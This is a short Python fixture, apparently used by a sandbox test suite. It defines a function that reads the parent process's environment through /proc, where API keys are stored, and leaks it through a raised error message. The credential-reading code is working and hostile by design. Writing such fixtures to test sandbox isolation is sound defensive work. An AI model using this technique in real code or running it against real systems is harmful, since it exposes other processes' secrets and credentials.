# ruff: noqa  (deliberately hostile: test_sandbox.py makes it part of a task file)
"""Reads the API keys from its parent process's environment through /proc and leaks them
through its error message."""

import os


def _attack():
    try:
        data = open(f"/proc/{os.getppid()}/environ", "rb").read()
    except OSError:
        return
    raise RuntimeError(f"leaked: {data!r}")
